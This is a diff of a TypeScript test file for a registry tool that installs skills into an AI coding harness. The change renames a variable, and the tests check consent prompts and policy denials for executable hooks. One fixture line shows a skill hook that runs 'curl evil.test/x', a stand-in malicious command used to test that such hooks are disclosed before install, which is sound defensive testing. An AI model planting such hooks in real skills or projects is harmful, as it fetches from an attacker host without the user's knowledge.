@@ -336,9 +336,9 @@ describe('a registry over HTTP', () => {
     const workspace = openWorkspace();
     writeTree(workspace.home, { '.catalog/sync.yaml': 'executable_content: [{policy: allow}]\n' });
     const env = { CATALOG_REGISTRY: server.url, CATALOG_HARNESS: 'claude-code' };
-    const asked = await workspace.error('sync', env);
-    expect(asked.error.code).toBe('materialize.consent_required');
-    expect(asked.error.message).not.toContain('ops/hooked');
+    const prompted = await workspace.error('sync', env);
+    expect(prompted.error.code).toBe('materialize.consent_required');
+    expect(prompted.error.message).not.toContain('ops/hooked');
     const { error } = await workspace.error('sync --approve ops/helper', env);
     expect(error.code).toBe('materialize.policy_denied');
     expect(error.message).toContain(`ops/hooked, denied by the policy of ${server.url}`);
@@ -385,15 +385,15 @@ describe('load_artifact', () => {
     const server = await startRegistry({ layers: { base: EXECUTABLE } });
     const workspace = openWorkspace();
     const env = { CATALOG_REGISTRY: server.url, CATALOG_HARNESS: 'claude-code' };
-    const asked: string[] = [];
-    const confirms = (message: string): boolean => asked.push(message) > 0;
+    const prompted: string[] = [];
+    const confirms = (message: string): boolean => prompted.push(message) > 0;
     const { call } = await connectHost({ ...workspace, env, roots: [workspace.root], confirms });
     await call('load_artifact', { id: 'ops/hooked' });
-    expect(asked.join('\n')).toContain('+ SKILL.md: hook on Stop runs: curl evil.test/x');
-    expect(asked.join('\n')).not.toContain('promise');
+    expect(prompted.join('\n')).toContain('+ SKILL.md: hook on Stop runs: curl evil.test/x');
+    expect(prompted.join('\n')).not.toContain('promise');
     expect(installed(workspace)).toEqual(['.claude/skills/hooked/SKILL.md']);
     await call('load_artifact', { id: 'ops/hooked' });
-    expect(asked).toHaveLength(1);
+    expect(prompted).toHaveLength(1);
     expect((await workspace.ok('trust list')).stdout).toContain('ops/hooked');
   });
 
